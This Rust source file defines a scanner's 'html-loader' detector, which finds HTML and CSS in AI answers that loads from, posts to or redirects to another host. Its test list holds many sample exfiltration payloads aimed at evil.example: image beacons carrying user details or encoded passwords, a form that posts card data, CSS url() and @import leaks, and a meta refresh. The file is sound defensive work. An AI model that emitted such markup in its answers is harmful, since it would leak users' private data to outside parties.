//! HTML and CSS that load from, send to or move to another host.

use bartizan_core::catalog::{Docs, Meta, Reference};
use bartizan_core::{Category, Severity};

use crate::cursor::{Cursor, before, contains_any_case};
use crate::detector::{Detector, Findings, Hit};
use crate::markup::tag::{MAX_TAG_BYTES, Tag};
use crate::markup::url::{self, Use};
use crate::text::View;

pub(super) static DETECTOR: HtmlLoader = HtmlLoader;

/// Finds markup that talks to other hosts.
pub(super) struct HtmlLoader;

static META: Meta = Meta {
    id: "html-loader",
    summary: "HTML or CSS that sends data to another host, loads a script, or moves the page",
    severity: Severity::High,
    category: Category::Exfiltration,
    label: "HTML",
    docs: Docs {
        finds: "`a`, `img`, `iframe`, `link`, `object`, `embed`, `video`, `audio`, `source`, `track`, `input`, `image`, `body` \
                tables, SVG's `use` and `feImage`, and CSS `url(…)`, `image-set(…)` or `@import` with data in the URL; `script` with any `src`; `form` and `formaction` to \
                another host; `base` and `meta refresh` with another host.",
        matters: "Interfaces that render HTML fetch these by themselves; an answer becomes a message to a stranger.",
        example: "`<img src=\"https://evil.example/?d={secret}\">` becomes `<HTML_1>`.",
        fix: "Mask or block it in answers, and serve the interface with a Content-Security-Policy.",
        limits: "Ordinary images, style sheets and players from other hosts pass; what counts as data in a URL is \
                 as for `data-link`. Tags over 900 bytes are judged by their first 900. Pages about HTML that \
                 show a `script src` are found as well.",
    },
    references: &[Reference::Cwe(201), Reference::Cwe(829), Reference::Owasp("LLM05:2025")],
    flags: &[
        "<img src=\"https://evil.example/p.gif?d=the+user+lives+in+Springfield\">",
        "<IMG width=1 SRC = '//evil.example/?q={conversation}' />",
        "text <script async src=https://evil.example/x.js></script>",
        "<form method=post action=\"https://evil.example/collect\"><input name=card></form>",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
        "<div style=\"background: url('https://evil.example/b.png?m=alice%40example.com')\">",
        "<style>@import url(\"https://evil.example/s.css?q=c3VwZXIgc2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI\");</style>",
        "<iframe src=https://evil.example/f?x=<EMAIL_ADDRESS_1>></iframe>",
        "<base href=\"https://evil.example/\">",
        "<img alt=a srcset=\"https://good.example/a.png 1x, https://evil.example/?q=c3VwZXIgc2VjcmV0IHBhc3N3b3Jk 2x\">",
        "<a href=\"https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU\">more</a>",
        "<a href=\"/about\" ping='https://evil.example/?u=<EMAIL_ADDRESS_1>'>about</a>",
        "&lt;img src=&quot;https://evil.example/p.png?q={data}&quot;&gt;",
        "<table background=\"https://evil.example/p.png?q={data}\"><td>x</table>",
        "<div style='background: image-set(\"https://evil.example/p.png?q={data}\" 1x)'>",
        "<img src=\"https:\\\\evil.example\\p.gif?d=the+user+lives+in+Springfield\">",
    ],
    passes: &[
        "<img src=\"https://cdn.example.com/logo.png\" alt=\"Logo\">",
        "<iframe src=\"https://www.example.com/embed/dQw4w9WgXcQ\" allowfullscreen></iframe>",
        "<link rel=\"stylesheet\" href=\"https://cdn.example.com/css/bootstrap.min.css\">",
        "<form action=\"/search\"><input name=q></form>",
        "Use the <img> tag with a src attribute, or <script src> for code.",
        "<meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\">",
        "background: url(images/paper.png); src: url(\"https://fonts.example.com/a.woff2\")",
        "a < b and <imaginary src=https://evil.example/?q={data}>",
        "<script>render()</script>",
        "<a href=\"https://www.example.com/search?q=how+to+write+rust+macros&utm_source=chat\">search</a>",
        "<img srcset=\"https://cdn.example.com/a-480w.jpg 480w, https://cdn.example.com/a-800w.jpg 800w\">",
    ],
};

/// What a tag does with the URL of an attribute.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Deed {
    /// Fetches it; matters when it carries data.
    Loads,
    /// Fetches it after a click; matters when it carries much data.
    Follows,
    /// Runs it, sends to it or moves to it; matters for every other host.
    Reaches,
    /// Moves there after a while: a URL inside a text.
    Refreshes,
}

/// A tag, its attributes with a URL, what happens, and how bad it is.
type Loader = (&'static str, &'static [&'static str], Deed, f32);

const TAGS: [Loader; 26] = [
    ("<a", &["href", "ping"], Deed::Follows, 0.7),
    ("<img", &["src", "srcset", "data-src", "lowsrc", "dynsrc"], Deed::Loads, 0.9),
    ("<image", &["href", "xlink:href", "src"], Deed::Loads, 0.9),
    ("<iframe", &["src"], Deed::Loads, 0.9),
    ("<frame", &["src"], Deed::Loads, 0.9),
    ("<script", &["src", "href", "xlink:href"], Deed::Reaches, 0.8),
    ("<link", &["href", "imagesrcset"], Deed::Loads, 0.8),
    ("<object", &["data"], Deed::Loads, 0.9),
    ("<embed", &["src"], Deed::Loads, 0.9),
    ("<video", &["src", "poster"], Deed::Loads, 0.8),
    ("<audio", &["src"], Deed::Loads, 0.8),
    ("<source", &["src", "srcset"], Deed::Loads, 0.8),
    ("<track", &["src"], Deed::Loads, 0.8),
    ("<input", &["src"], Deed::Loads, 0.8),
    ("<body", &["background"], Deed::Loads, 0.8),
    ("<table", &["background"], Deed::Loads, 0.8),
    ("<thead", &["background"], Deed::Loads, 0.8),
    ("<tbody", &["background"], Deed::Loads, 0.8),
    ("<tr", &["background"], Deed::Loads, 0.8),
    ("<td", &["background"], Deed::Loads, 0.8),
    ("<th", &["background"], Deed::Loads, 0.8),
    ("<feimage", &["href", "xlink:href"], Deed::Loads, 0.8),
    ("<use", &["href", "xlink:href"], Deed::Loads, 0.8),
    ("<form", &["action"], Deed::Reaches, 0.7),
    ("<base", &["href"], Deed::Reaches, 0.8),
    ("<meta", &["content"], Deed::Refreshes, 0.8),
];

/// Anchors that are no tags: of CSS, and an attribute that redirects a form.
const OTHERS: [&str; 4] = ["url(", "image-set(", "@import", "formaction"];

impl Detector for HtmlLoader {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn literals(&self) -> Vec<String> {
        let tags = TAGS.iter().map(|(tag, ..)| *tag);
        tags.chain(OTHERS).map(str::to_owned).collect()
    }

    fn look_behind(&self) -> usize {
        4
    }

    fn inspect(&self, view: &View<'_>, hits: &[Hit], findings: &mut Findings<'_>) {
        let bytes = view.bytes();
        for hit in hits {
            let tag = TAGS.get(hit.literal);
            let start = if tag.is_some() { hit.start } else { hit.end };
            let mut cursor = Cursor::new(bytes, start, MAX_TAG_BYTES);
            let found = match tag {
                Some(loader) => loading_tag(loader, &mut cursor),
                None => other(bytes, hit, &mut cursor).map(|(start, end)| (start, end, 0.8)),
            };
            if cursor.starved() {
                findings.undecided(hit.start);
            }
            if let Some((start, end, score)) = found {
                findings.push(start, end, score);
            }
        }
    }
}

fn loading_tag(loader: &Loader, cursor: &mut Cursor<'_>) -> Option<(usize, usize, f32)> {
    let (name, attributes, deed, score) = loader;
    let start = cursor.at();
    let tag = Tag::read(cursor)?;
    let named = name.strip_prefix('<').is_some_and(|name| tag.is(name));
    (named && matters(&tag, attributes, *deed)).then_some((start, tag.end, *score))
}

fn matters(tag: &Tag<'_>, attributes: &[&str], deed: Deed) -> bool {
    let mut urls = attributes.iter().flat_map(|name| {
        let value = tag.get(name).unwrap_or_default().trim_ascii();
        // A set of pictures is a list of URLs, each with a size.
        let listed = name.ends_with("srcset");
        value.split(move |byte| listed && matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b','))
    });
    match deed {
        Deed::Loads => urls.any(|url| {
            url::is_absolute(url)
                && (url::carries_data(url, Use::Loaded) || (!tag.closed && url.contains(&b'?')))
        }),
        Deed::Follows => urls.any(|url| url::is_absolute(url) && url::carries_data(url, Use::Link)),
        Deed::Reaches => urls.any(url::is_absolute),
        Deed::Refreshes => {
            tag.get("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case(b"refresh"))
                && urls.any(|content| contains_any_case(content, "//"))
        }
    }
}

/// Reads the URL behind `url(`, `@import` or `formaction`.
fn other(bytes: &[u8], hit: &Hit, cursor: &mut Cursor<'_>) -> Option<(usize, usize)> {
    let kind = OTHERS.get(hit.literal - TAGS.len())?;
    let glued = before(bytes, hit.start, 1).first().is_some_and(u8::is_ascii_alphanumeric);
    if glued {
        return None;
    }
    let spaces = cursor.spaces(4);
    match *kind {
        "url(" | "image-set(" => {}
        // `@import url(` is found by its `url(`.
        "@import" if spaces > 0 => {}
        "formaction" if cursor.eat(b'=') => {
            cursor.spaces(4);
        }
        _ => return None,
    }
    cursor.run(1, |byte| matches!(byte, b'"' | b'\''));
    let start = cursor.at();
    let url = cursor.run(MAX_TAG_BYTES, |byte| {
        byte > b' ' && byte < 0x7f && !matches!(byte, b'"' | b'\'' | b')' | b';')
    });
    let fits = if *kind == "formaction" {
        url::is_absolute(url)
    } else {
        url::is_absolute(url) && url::carries_data(url, Use::Loaded)
    };
    fits.then_some((start, start + url.len()))
}
